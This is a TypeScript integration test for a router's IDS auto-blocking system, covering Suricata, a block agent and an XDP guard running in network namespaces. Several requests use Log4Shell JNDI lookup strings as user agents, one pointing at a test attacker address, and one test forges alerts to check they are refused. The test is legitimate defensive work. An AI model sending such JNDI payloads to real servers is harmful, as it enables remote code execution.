/**
 * Alerts that block their source at the edge, with the real pieces in network namespaces: Suricata (AF_PACKET on
 * the router's WAN, the dev site's rendered configuration and rules), the block agent (images/ids/
 * router-ids-block, as its own uid), and the data-plane loader with the dev site's rendered `[dynamic_block]`
 * section and never-block list (the XDP guard on the WAN). An attack from the internet host is blocked at XDP
 * within 2 s of the request and counted by the guard as `dynamic`; a neighbour on the same path is unaffected; a
 * protected source is alerted on and never blocked; requests from anyone but the agent are ignored; a loader
 * restart keeps the block; the block ends on time. Also `--check` on broken `[dynamic_block]` sections.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ChildProcess, spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { tier } from "../helpers/tier";
import { tempDir } from "../helpers/temp";
import { devSite } from "../helpers/dev-site";
import {
  BUILD_COMMANDS,
  LOADER,
  buildEbpf,
  ensureBpffs,
  inNetns,
  ip,
  jsonLines,
  parseMetrics,
  sleep,
  spawnInNetns,
  startLoaderIn,
  stopProcess,
  waitFor,
} from "../ebpf/lib";
import { CONFIG_PATH, TABLE_DIR, renderLoaderConfig } from "../../components/dataplane/loader-config";
import { BLOCK_AGENT_UID, BLOCK_PROTECT_FILE, BLOCK_SOCKET } from "../../components/ids-stack/block";
import { planIds } from "../../components/ids-stack/plan";
import { alertSocket, suricataFiles, type IdsPaths } from "../../components/ids-stack/suricata";

const t = tier("ids blocking", {
  root: true,
  commands: [...BUILD_COMMANDS, "ip", "nsenter", "curl", "suricata", "setpriv", "busybox", "/usr/bin/python3"],
});

const AGENT = resolve(__dirname, "../../images/ids/router-ids-block");
const TAG = `idsblk${process.pid}`;
const NS = { inet: `${TAG}-inet`, rtr: `${TAG}-rtr` };
const ROUTER = "45.80.1.1";
const ATTACKER = "45.80.1.66";
const NEIGHBOUR = "45.80.1.67";
/** In the site's block.never: alerted on, never blocked. */
const PROTECTED = "45.80.1.99";
/** The router's default gateway: never blocked, read by the loader from the kernel's routes (not from the site). */
const GATEWAY = "45.80.1.254";
const PORT = 19_432;

interface LogLine {
  time: string;
  level: string;
  event: string;
  msg: string;
}

/** The dev site with a 10 s block (the shortest the site allows) and the protected neighbour in block.never. */
function site() {
  return devSite((raw) => {
    raw["ids"].block = { ...raw["ids"].block, duration: "10s", never: [`${PROTECTED}/32`] };
  });
}

/** The `[dynamic_block]` section and protect file exactly as rendered, with the test's paths. */
function renderedBlock(dir: string): { section: string; protect: string } {
  const { site: s, plan } = site();
  const files = renderLoaderConfig(s, plan).files;
  const conf = files.get(CONFIG_PATH)!;
  const section = /^\[dynamic_block\]\n(?:.+\n)+/m.exec(conf)![0];
  return {
    section: section
      .replace(`socket = ${BLOCK_SOCKET}`, `socket = ${join(dir, "block", "block.sock")}`)
      .replace(`${TABLE_DIR}/${BLOCK_PROTECT_FILE}`, join(dir, BLOCK_PROTECT_FILE)),
    protect: files.get(`${TABLE_DIR}/${BLOCK_PROTECT_FILE}`)!,
  };
}

function loaderConf(dir: string, section: string): string {
  return [
    "[global]",
    `pin_root = /sys/fs/bpf/${TAG}`,
    "metrics_address = 127.0.0.1",
    `metrics_port = ${PORT}`,
    `state_dir = ${join(dir, "state")}`,
    "",
    "[interface wan0]",
    "role = wan",
    "xdp_mode = native",
    "",
    section,
  ].join("\n");
}

describe.skipIf(!t.ok)("router-dataplane --check of [dynamic_block]", () => {
  let dir = "";
  beforeAll(() => {
    buildEbpf("loader");
    dir = tempDir("ids-block-check-");
  }, 600_000);

  const check = (conf: string) => {
    const path = join(dir, "dp.conf");
    writeFileSync(path, conf);
    const r = spawnSync(LOADER, ["--config", path, "--check"], { encoding: "utf8" });
    return {
      status: r.status,
      msg: jsonLines<LogLine>(r.stderr)
        .map((l) => l.msg)
        .join("\n"),
    };
  };

  it("accepts the section as rendered for the dev site, with its never-block list", () => {
    const { section, protect } = renderedBlock(dir);
    writeFileSync(join(dir, BLOCK_PROTECT_FILE), protect);
    expect(check(loaderConf(dir, section))).toMatchObject({ status: 0 });
  });

  it.each([
    {
      name: "a section without socket and agent_uid",
      why: "requests would have nowhere to arrive, or be taken from anyone",
      section: "[dynamic_block]\nduration = 1h\n",
      expect: /\[dynamic_block\]: socket, agent_uid required/,
    },
    {
      name: "an agent running as root",
      why: "the agent parses what Suricata made of hostile traffic; it must never be root",
      section: "[dynamic_block]\nsocket = /run/x/block.sock\nagent_uid = 0\n",
      expect: /\[dynamic_block\] agent_uid = 0: expected an integer from 1 to 4294967294/,
    },
    {
      name: "a block longer than 30 days",
      why: "a forgotten block would outlive any reason for it",
      section: "[dynamic_block]\nsocket = /run/x/block.sock\nagent_uid = 64100\nduration = 721h\n",
      expect: /\[dynamic_block\] duration = 721h: expected a duration from 1s to 720h/,
    },
    {
      name: "a table too small",
      why: "a handful of entries would be full after one scan",
      section: "[dynamic_block]\nsocket = /run/x/block.sock\nagent_uid = 64100\nmax_entries = 8\n",
      expect: /\[dynamic_block\] max_entries = 8: expected an integer from 16 to 1048576/,
    },
    {
      name: "an unknown key",
      why: "a misspelt setting would silently keep its default",
      section: "[dynamic_block]\nsocket = /run/x/block.sock\nagent_uid = 64100\nseverity = 1\n",
      expect: /\[dynamic_block\] severity = 1: unknown key; \[dynamic_block\] allows socket, agent_uid, duration/,
    },
    {
      name: "a never-block list with a bad line",
      why: "a half-read list could let the router block its own gateway",
      section: "[dynamic_block]\nsocket = /run/x/block.sock\nagent_uid = 64100\nprotect = PROTECT\n",
      protect: "10.0.0.0/8\n10.1.2.3/8\n",
      expect: /never\.txt:2: host bits set beyond \/8/,
    },
  ])("refuses $name ($why)", (c) => {
    const never = join(dir, "never.txt");
    writeFileSync(never, c.protect ?? "");
    const r = check(loaderConf(dir, c.section.replace("PROTECT", never)));
    expect(r.msg).toMatch(c.expect);
    expect(r.status).toBe(2);
  });
});

describe.skipIf(!t.ok)("an alert blocks its source at the XDP guard", () => {
  let dir = "";
  let log = "";
  let agentLog = "";
  const children: ChildProcess[] = [];
  let loader: ChildProcess | undefined;
  let paths: IdsPaths;

  const metrics = () => parseMetrics(inNetns(NS.rtr, "curl", ["-sf", `http://127.0.0.1:${PORT}/metrics`]));
  const metric = (name: string) => metrics().get(name) ?? NaN;
  const logLines = () => jsonLines<LogLine>(log);
  /** One HTTP request from src to the router (user agent ua); true when it was answered. */
  const request = (src: string, ua = "curl/7.88", timeout = 0.5) =>
    spawnSync("nsenter", [
      `--net=/run/netns/${NS.inet}`,
      ...["curl", "-sf", "-o", "/dev/null", "-m", String(timeout), "--interface", src, "-A", ua],
      `http://${ROUTER}:8080/index.html`,
    ]).status === 0;

  const startLoader = async () => {
    loader = await startLoaderIn(NS.rtr, [LOADER, "--config", join(dir, "dp.conf")], {
      log: () => log,
      onLog: (c) => (log += c),
      ready: () => {
        try {
          return metric("router_dataplane_dynamic_block_up") === 1;
        } catch {
          return false;
        }
      },
    });
    children.push(loader);
  };

  beforeAll(async () => {
    buildEbpf("loader");
    ensureBpffs();
    dir = tempDir("ids-block-");
    // the agent (its own uid) walks to its two sockets, as the pod's mounts let it
    chmodSync(dir, 0o711);
    paths = {
      config: join(dir, "etc"),
      rules: join(dir, "rules"),
      data: join(dir, "data"),
      logs: join(dir, "logs"),
      run: join(dir, "run"),
      alerts: join(dir, "alerts"),
      share: "/etc/suricata",
    };
    for (const d of Object.values(paths).slice(0, 6)) mkdirSync(d, { recursive: true });
    chmodSync(paths.alerts, 0o777); // an emptyDir shared by Suricata and the agent
    const s = site();
    const files = suricataFiles(s.site, planIds(s.site, s.plan), paths);
    for (const [name, text] of files) writeFileSync(join(paths.config, name), text);
    writeFileSync(join(paths.rules, "suricata.rules"), files.get("local.rules")!);
    const { section, protect } = renderedBlock(dir);
    writeFileSync(join(dir, BLOCK_PROTECT_FILE), protect);
    writeFileSync(join(dir, "dp.conf"), loaderConf(dir, section));
    mkdirSync(join(dir, "www"));
    writeFileSync(join(dir, "www", "index.html"), "ok\n");

    for (const n of Object.values(NS)) ip("netns", "add", n);
    ip("link", "add", `${TAG}a`, "type", "veth", "peer", "name", `${TAG}b`);
    ip("link", "set", `${TAG}a`, "netns", NS.inet);
    ip("link", "set", `${TAG}b`, "netns", NS.rtr);
    ip("-n", NS.rtr, "link", "set", `${TAG}b`, "name", "wan0");
    for (const a of [ATTACKER, NEIGHBOUR, PROTECTED, GATEWAY])
      ip("-n", NS.inet, "addr", "add", `${a}/24`, "dev", `${TAG}a`);
    ip("-n", NS.rtr, "addr", "add", `${ROUTER}/24`, "dev", "wan0");
    for (const [n, l] of [
      [NS.inet, `${TAG}a`],
      [NS.rtr, "wan0"],
      [NS.inet, "lo"],
      [NS.rtr, "lo"],
    ])
      ip("-n", n, "link", "set", l, "up");
    ip("-n", NS.rtr, "route", "add", "default", "via", GATEWAY);

    await startLoader();
    const agent = spawnInNetns(NS.rtr, "setpriv", [
      ...["--reuid", String(BLOCK_AGENT_UID), "--regid", String(BLOCK_AGENT_UID), "--clear-groups"],
      ...[AGENT, "--alerts", alertSocket(paths), "--loader", join(dir, "block", "block.sock")],
      ...["--severity", String(s.site.ids.block.severity)],
    ]);
    agent.stdout?.on("data", (d) => (agentLog += d));
    children.push(agent);
    await waitFor("the agent", () => agentLog.includes('"started"'));
    // the capture sees locally made frames whose checksums the veth leaves to offload: -k none
    const suricata = spawnInNetns(NS.rtr, "suricata", [
      ...["-c", join(paths.config, "suricata.yaml"), "--af-packet=wan0", "-l", paths.logs, "-k", "none"],
    ]);
    let suricataLog = "";
    suricata.stdout?.on("data", (d) => (suricataLog += d));
    children.push(suricata);
    const httpd = spawnInNetns(NS.rtr, "busybox", ["httpd", "-f", "-p", `${ROUTER}:8080`, "-h", join(dir, "www")]);
    children.push(httpd);
    await waitFor("Suricata's capture", () => suricataLog.includes("Engine started"), 60_000);
    await waitFor("the web server", () => request(NEIGHBOUR));
  }, 600_000);

  afterAll(async () => {
    for (const c of children.reverse()) await stopProcess(c);
    for (const n of Object.values(NS)) spawnSync("ip", ["netns", "del", n]);
    spawnSync("rm", ["-rf", `/sys/fs/bpf/${TAG}`]);
  });

  it("the neighbour's ordinary requests raise nothing and are not blocked", async () => {
    for (let i = 0; i < 3; i++) expect(request(NEIGHBOUR)).toBe(true);
    await sleep(500);
    expect(metric("router_dataplane_dynamic_block_entries")).toBe(0);
    expect(metric('router_dataplane_dynamic_block_requests_total{result="added"}')).toBe(0);
  });

  let blockedAt = 0;
  it("a JNDI lookup from the attacker is blocked at XDP within 2 s, counted as dynamic, logged once", async () => {
    const dropsBefore = metric('router_dataplane_drop_packets_total{reason="dynamic"}');
    const t0 = Date.now();
    request(ATTACKER, "${jndi:ldap://45.80.1.66:1389/Exploit}", 2);
    let passed = true;
    while (passed && Date.now() - t0 < 5_000) {
      passed = request(ATTACKER, "curl/7.88", 0.2);
      if (passed) await sleep(50);
    }
    const took = Date.now() - t0;
    blockedAt = Date.now();
    expect(passed, "the attacker still got through 5 s after the attack").toBe(false);
    expect(took).toBeLessThan(2_000);
    expect(metric('router_dataplane_drop_packets_total{reason="dynamic"}')).toBeGreaterThan(dropsBefore);
    expect(metric("router_dataplane_dynamic_block_entries")).toBe(1);
    // the log arrives through the event loop, which the synchronous requests held up
    const lines = () => logLines().filter((l) => l.event === "dynamic_block" && l.msg.startsWith(ATTACKER));
    await waitFor("the block's log line", () => lines().length > 0);
    expect(lines().map((l) => l.msg)).toEqual([
      `${ATTACKER} blocked for 10 s: IDS alert sid 9100003; 1 of 65536 entries`,
    ]);
    await waitFor("the agent's log line", () => agentLog.includes(`"src": "${ATTACKER}"`));
  });

  it("the neighbour on the same path still gets through", () => {
    expect(request(NEIGHBOUR)).toBe(true);
  });

  it("a protected source is alerted on and not blocked (site block.never)", async () => {
    request(PROTECTED, "${jndi:ldap://x/y}", 2);
    await waitFor(
      "the refusal",
      () => metric('router_dataplane_dynamic_block_requests_total{result="protected"}') === 1,
    );
    expect(request(PROTECTED)).toBe(true);
    await waitFor("the refusal's log line", () =>
      logLines().some(
        (l) => l.event === "dynamic_block_refused" && l.msg.endsWith(`never blocked, covered by ${PROTECTED}/32`),
      ),
    );
  });

  it("the WAN's gateway is alerted on and not blocked (read from the routes, in no list of the site)", async () => {
    request(GATEWAY, "${jndi:ldap://x/y}", 2);
    await waitFor(
      "the refusal",
      () => metric('router_dataplane_dynamic_block_requests_total{result="protected"}') === 2,
    );
    expect(request(GATEWAY)).toBe(true);
    expect(metric("router_dataplane_dynamic_block_entries")).toBe(1);
    await waitFor("the refusal's log line", () =>
      logLines().some(
        (l) => l.event === "dynamic_block_refused" && l.msg.endsWith(`never blocked, covered by ${GATEWAY}/32`),
      ),
    );
  });

  it("requests from another uid than the agent's, and alerts from another sender than Suricata's, are ignored", async () => {
    const send = (uid: number, socket: string, text: string) =>
      inNetns(NS.rtr, "setpriv", [
        ...["--reuid", String(uid), "--regid", String(uid), "--clear-groups", "/usr/bin/python3", "-c"],
        `import socket,sys; s=socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(sys.argv[2].encode(), sys.argv[1])`,
        socket,
        text,
      ]);
    // root may reach the loader's socket; its word counts for nothing
    send(0, join(dir, "block", "block.sock"), `block ${NEIGHBOUR} 1`);
    // a process of another uid that can write to the alerts socket forges an alert
    const forged = JSON.stringify({ event_type: "alert", src_ip: NEIGHBOUR, alert: { severity: 1, signature_id: 1 } });
    send(1000, alertSocket(paths), forged);
    await waitFor(
      "the loader's refusal",
      () => metric('router_dataplane_dynamic_block_requests_total{result="foreign_sender"}') === 1,
    );
    await waitFor("the agent's refusal", () => agentLog.includes('"foreign_sender"'));
    send(BLOCK_AGENT_UID, join(dir, "block", "block.sock"), "unblock 45.80.1.66");
    await waitFor(
      "the malformed count",
      () => metric('router_dataplane_dynamic_block_requests_total{result="malformed"}') === 1,
    );
    expect(metric("router_dataplane_dynamic_block_entries")).toBe(1);
    expect(request(NEIGHBOUR)).toBe(true);
  });

  it("a loader restart keeps the block (the pinned tables are taken over)", async () => {
    await stopProcess(loader);
    await startLoader();
    expect(metric("router_dataplane_dynamic_block_entries")).toBe(1);
    await waitFor("the take-over's log line", () =>
      logLines().some((l) => l.msg === "1 blocked sources taken over from the previous programs"),
    );
    expect(request(ATTACKER, "curl/7.88", 0.3)).toBe(false);
  });

  it("the block ends on time (10 s) and the entry is removed with a log line", async () => {
    await waitFor("the attacker to pass again", () => request(ATTACKER, "curl/7.88", 0.2), 15_000, 100);
    const after = (Date.now() - blockedAt) / 1000;
    // blockedAt is up to 2 s after the block began (the previous test's bound)
    expect(after).toBeGreaterThan(7.5);
    expect(after).toBeLessThan(11.5);
    await waitFor("the sweep", () => metric("router_dataplane_dynamic_block_entries") === 0, 3_000);
    await waitFor("the expiry's log line", () =>
      logLines().some(
        (l) => l.event === "dynamic_block_expired" && l.msg === `${ATTACKER} unblocked: its block expired`,
      ),
    );
    expect(metric("router_dataplane_dynamic_block_removed_total")).toBe(1);
  });
});
